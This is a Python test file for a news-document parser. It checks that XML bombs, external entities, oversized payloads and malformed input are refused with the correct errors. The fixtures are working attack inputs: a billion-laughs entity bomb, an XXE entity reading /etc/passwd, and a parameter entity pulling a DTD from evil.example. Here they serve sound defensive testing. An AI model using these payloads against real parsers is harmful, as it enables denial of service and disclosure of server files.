"""Hostile and oversized documents are refused quickly and with the right error."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from ingest.errors import ParseError, PayloadTooLarge, UnsafeDocument, UnsupportedFormat
from ingest.parsing import parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<newsItem guid="x"><contentMeta><headline>&lol9;</headline></contentMeta></newsItem>"""


@pytest.mark.parametrize("root", ["newsItem", "rss", "nitf", "feed", "unknown"])
def test_entity_expansion_bomb_is_refused_within_a_second(root: str):
    bomb = BILLION_LAUGHS.replace(b"newsItem", root.encode())
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(UnsafeDocument):
            parse(bomb, "application/xml", provider="x")
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 5_000_000  # expanded, the document would be gigabytes


def test_external_entity_is_refused():
    document = b"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"""
    with pytest.raises(UnsafeDocument):
        parse(document, provider="x")


def test_parameter_entity_is_refused():
    document = b"""<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>
    <nitf/>"""
    with pytest.raises(UnsafeDocument):
        parse(document, provider="x")


def test_doctype_naming_an_external_dtd_is_read_without_loading_it():
    document = b"""<!DOCTYPE nitf SYSTEM "http://dtd.example/nitf.dtd"><nitf><head><docdata>
      <doc-id id-string="d1"/></docdata></head><body><body.head><hedline><hl1>Fine</hl1>
      </hedline></body.head></body></nitf>"""
    [article] = parse(document, provider="x")
    assert article.headline == "Fine"


def test_oversized_document_is_refused_before_parsing():
    with pytest.raises(PayloadTooLarge):
        parse(b'{"headline": "h", "body": "' + b"x" * 2000 + b'"}', provider="x", max_bytes=1000)


def test_malformed_news_xml_names_the_position():
    with pytest.raises(ParseError) as caught:
        parse(b"<newsItem guid='x'>\n<contentMeta><headline>H</contentMeta>", provider="x")
    assert "line 2" in caught.value.message


def test_unknown_xml_vocabulary_is_unsupported():
    with pytest.raises(UnsupportedFormat) as caught:
        parse(b"<invoice><total>3</total></invoice>", provider="x")
    assert "<invoice>" in caught.value.message


def test_g2_concept_item_is_not_news():
    with pytest.raises(UnsupportedFormat):
        parse(b"<conceptItem guid='c'/>", provider="x")


def test_empty_body_is_a_parse_error():
    with pytest.raises(ParseError):
        parse(b" \n\t ", provider="x")
